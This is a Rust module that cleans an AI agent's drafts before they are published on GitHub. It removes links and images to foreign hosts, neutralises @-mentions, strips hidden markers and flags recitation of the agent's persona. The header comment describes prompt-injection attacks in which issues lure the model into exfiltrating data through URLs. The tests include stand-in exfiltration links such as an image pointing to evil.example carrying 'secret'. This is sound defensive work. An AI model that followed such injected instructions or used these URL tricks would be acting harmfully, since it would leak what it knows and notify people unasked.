//! Drafts on their way out: what a model wrote is cleaned before anybody sees it published.
//!
//! The attacks: an issue talks the model into an image or a link whose address carries away what the
//! model knows, into notifying people, or into the marker that proves another task's comment.

use std::collections::BTreeSet;

use domain::clip;

use crate::untrusted::visible;

/// GitHub takes 65,536 characters; our marker and a margin are left free.
const LONGEST: usize = 60_000;

/// A run of the persona this long within a draft is a leak, not a coincidence.
const LEAK_CHARS: usize = 160;

/// What a draft may refer to.
#[derive(Debug, Clone, Default)]
pub(crate) struct Allowed {
    /// Hosts that links and images may name.
    pub hosts: BTreeSet<String>,
    /// The only account that may be mentioned: who caused the event.
    pub mention: String,
}

impl Allowed {
    /// Allows every host that the input names.
    #[must_use]
    pub(crate) fn with_hosts_of(mut self, input: &str) -> Self {
        self.hosts.extend(urls(input).filter_map(|(_, url)| host(url)));
        self
    }
}

/// A draft that can be published.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Cleaned {
    /// The text.
    pub text: String,
    /// A safety check that tripped: a person must look.
    pub alarm: Option<String>,
}

/// Cleans `draft`: no hidden text, no mentions beyond the allowed one, no links or images to foreign
/// hosts, no markers, bounded length. `secret` is the persona, which must not be recited.
#[must_use]
pub(crate) fn clean(draft: &str, allowed: &Allowed, secret: &str) -> Cleaned {
    let text = visible(draft);
    let text = without_foreign_urls(&text, &allowed.hosts);
    let text = without_mentions(&text, &allowed.mention);
    let text = clip(text.trim(), LONGEST).to_owned();
    let alarm = recites(&text, secret).then(|| "the draft recites the agent's instructions".to_owned());
    Cleaned { text, alarm }
}

/// Replaces every absolute URL whose host is not allowed. Protocol-relative ones (`//host`) count.
fn without_foreign_urls(text: &str, hosts: &BTreeSet<String>) -> String {
    let mut out = String::with_capacity(text.len());
    let mut done = 0;
    for (start, url) in urls(text) {
        if host(url).is_some_and(|host| hosts.contains(&host)) {
            continue;
        }
        out.push_str(&text[done..start]);
        out.push_str("[link removed]");
        done = start + url.len();
    }
    out.push_str(&text[done..]);
    out
}

/// Every `scheme://…`, `//…` and `www.…` of `text` with its place.
fn urls(text: &str) -> impl Iterator<Item = (usize, &str)> {
    let (mut from, mut end) = (0, 0);
    std::iter::from_fn(move || {
        loop {
            let rest = &text[from..];
            let at = from + [rest.find("//"), rest.find("www.")].into_iter().flatten().min()?;
            // Looked for once a word: a text of nothing but slashes must not take quadratic time.
            if at >= end {
                end = url_end(text, at);
            }
            let start = url_start(text, from, at);
            // What names no host may still have a URL in it: `//https://…`.
            from = at + 2;
            if end > from && host(&text[start..end]).is_some() {
                from = end;
                return Some((start, &text[start..end]));
            }
        }
    })
}

/// Where the scheme in front of `at` begins, not before `from`.
fn url_start(text: &str, from: usize, at: usize) -> usize {
    text[from..at].strip_suffix(':').map_or(at, |before| {
        let scheme = before.chars().rev().take_while(char::is_ascii_alphanumeric).count();
        from + before.len() - scheme
    })
}

/// The first character from `at` on that ends a URL.
fn url_end(text: &str, at: usize) -> usize {
    let ends =
        |c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | ')' | ']' | '`' | '|' | '\\');
    text[at..].find(ends).map_or(text.len(), |length| at + length)
}

/// The host of a URL, lower case, without user and port; `None` when there is none that could be
/// looked up.
fn host(url: &str) -> Option<String> {
    let rest = url.split_once("//").map_or(url, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#', '\\']).next()?;
    let host = authority.rsplit('@').next()?.split(':').next()?;
    let host = host.trim_end_matches('.').to_lowercase();
    (host.contains('.') || host == "localhost").then_some(host)
}

/// Takes the power out of `@name`: a zero-width space after the `@` keeps it readable, and nobody is
/// notified. E-mail addresses and the allowed account stay as they are.
fn without_mentions(text: &str, allowed: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut before = ' ';
    for (at, c) in text.char_indices() {
        out.push(c);
        let name: &str = &text[at + c.len_utf8()..];
        let name = name
            .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '/' | '_')))
            .next()
            .unwrap_or("");
        let notifies = c == '@' && !before.is_alphanumeric() && !name.is_empty();
        if notifies && !name.eq_ignore_ascii_case(allowed) {
            out.push('\u{200B}');
        }
        before = c;
    }
    out
}

fn recites(text: &str, secret: &str) -> bool {
    let squeeze = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ").to_lowercase();
    let (text, secret) = (squeeze(text), squeeze(secret));
    let chars: Vec<(usize, char)> = secret.char_indices().collect();
    chars.windows(LEAK_CHARS).step_by(LEAK_CHARS / 8).any(|run| {
        let (start, (last, c)) = (run[0].0, run[LEAK_CHARS - 1]);
        text.contains(&secret[start..last + c.len_utf8()])
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cleaned(draft: &str) -> String {
        let allowed = Allowed { mention: "mona".to_owned(), ..Allowed::default() }
            .with_hosts_of("see https://docs.example.com/a and http://user@build.example.com:8080/x");
        clean(draft, &allowed, "").text
    }

    #[test]
    fn links_to_hosts_of_the_input_stay() {
        let draft = "See [this](https://docs.example.com/b) or http://build.example.com/y.";
        assert_eq!(cleaned(draft), draft);
    }

    #[test]
    fn links_and_images_to_other_hosts_go() {
        assert_eq!(cleaned("![x](https://evil.example/?q=secret)"), "![x]([link removed])");
        assert_eq!(cleaned("<img src='//evil.example/p.png'>"), "<img src='[link removed]'>");
        assert_eq!(cleaned("go to www.evil.example now"), "go to [link removed] now");
        assert_eq!(cleaned("https://docs.example.com@evil.example/"), "[link removed]");
        assert_eq!(cleaned("HTTPS://EVIL.example"), "[link removed]");
        assert_eq!(cleaned("https://docs.example.com.evil.example/"), "[link removed]");
    }

    #[test]
    fn comments_and_paths_are_no_links() {
        assert_eq!(cleaned("let a = 1; // the first"), "let a = 1; // the first");
        assert_eq!(cleaned("a // b // c"), "a // b // c");
    }

    #[test]
    fn only_the_author_is_mentioned() {
        assert_eq!(cleaned("@mona thanks"), "@mona thanks");
        assert_eq!(cleaned("cc @octo/security"), "cc @\u{200B}octo/security");
        assert_eq!(cleaned("write to a@b.example"), "write to a@b.example");
    }

    #[test]
    fn markers_and_hidden_text_go() {
        assert_eq!(cleaned("hi <!-- afterhook:tsk_0 -->there"), "hi there");
    }

    #[test]
    fn recited_persona_raises_an_alarm() {
        let persona = "You are the maintainer of octo. ".repeat(20);
        let draft = format!("My instructions: {}", persona.to_uppercase());
        assert!(clean(&draft, &Allowed::default(), &persona).alarm.is_some());
        assert!(clean("You are the maintainer of octo.", &Allowed::default(), &persona).alarm.is_none());
    }

    #[test]
    fn overlong_draft_is_cut() {
        assert!(cleaned(&"long ".repeat(40_000)).len() <= LONGEST);
    }

    #[test]
    fn url_behind_empty_slashes_is_found() {
        assert!(!cleaned("////https://evil.example/x").contains("evil.example"));
        assert!(!cleaned("//a//b//evil.example").contains("evil.example"));
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_cleaned_without_panic_and_once_is_enough(draft in ".{0,400}") {
            let once = cleaned(&draft);
            proptest::prop_assert_eq!(cleaned(&once).replace('\u{200B}', ""), once.replace('\u{200B}', ""));
        }

        #[test]
        fn no_foreign_host_survives(before in ".{0,20}", path in "[a-z/?=]{0,20}", after in ".{0,20}") {
            let draft = format!("{before}https://evil.example/{path}{after}");
            proptest::prop_assert!(!cleaned(&draft).contains("evil.example"));
        }
    }
}
